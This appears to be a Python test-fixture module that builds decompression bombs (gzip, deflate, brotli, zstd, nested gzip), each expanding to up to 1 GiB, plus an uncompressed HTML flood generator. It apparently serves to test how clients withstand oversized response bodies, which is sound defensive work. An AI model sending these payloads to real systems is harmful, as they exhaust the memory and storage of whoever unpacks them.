"""Bodies far larger than they look, built when first asked for. Valid streams: only their size is a lie."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterator
from functools import lru_cache

import brotli
import zstandard

GIB = 1 << 30
_MIB = bytes(1 << 20)


@lru_cache(maxsize=1)
def gzip_bomb() -> bytes:
    """Return about 1 MB of gzip that unpacks to 1 GiB of NUL: one packed mebibyte, 1,024 times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(_MIB) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    check = 0
    for _ in range(1024):
        check = zlib.crc32(_MIB, check)
    tail = check.to_bytes(4, "little") + (GIB % (1 << 32)).to_bytes(4, "little")
    return b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + block * 1024 + end + tail


@lru_cache(maxsize=1)
def deflate_bomb() -> bytes:
    """Return a zlib stream of 256 MiB of NUL, which is what ``deflate`` means."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(_MIB) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    check = 1
    for _ in range(256):
        check = zlib.adler32(_MIB, check)
    return b"\x78\xda" + block * 256 + end + check.to_bytes(4, "big")


@lru_cache(maxsize=1)
def brotli_bomb() -> bytes:
    """Return less than a kilobyte of brotli that unpacks to 1 GiB of NUL: one packed block, 64 times."""
    packer = brotli.Compressor(quality=5, lgwin=24)
    many = bytes(1 << 24)
    # Only the first block carries the header of the stream.
    first, block = (packer.process(many) + packer.flush() for _ in range(2))
    return bytes(first + block * 63 + packer.finish())


@lru_cache(maxsize=1)
def zstd_bomb() -> bytes:
    """Return about 33 KB of zstd that unpacks to 1 GiB of NUL."""
    packer = zstandard.ZstdCompressor(level=3).compressobj()
    return b"".join(packer.compress(_MIB) for _ in range(1024)) + packer.flush()


@lru_cache(maxsize=1)
def nested_bomb() -> bytes:
    """Return gzip in gzip: a few kilobytes, 1 MB, 1 GiB."""
    return gzip.compress(gzip_bomb(), 9, mtime=0)


def plain_flood(size: int) -> Iterator[bytes]:
    """Yield paragraphs until ``size`` octets are sent; nothing is packed."""
    paragraph = "<p>条款内容重复，没有尽头。</p>\n".encode() * 2048
    for _ in range(size // len(paragraph) + 1):
        yield paragraph
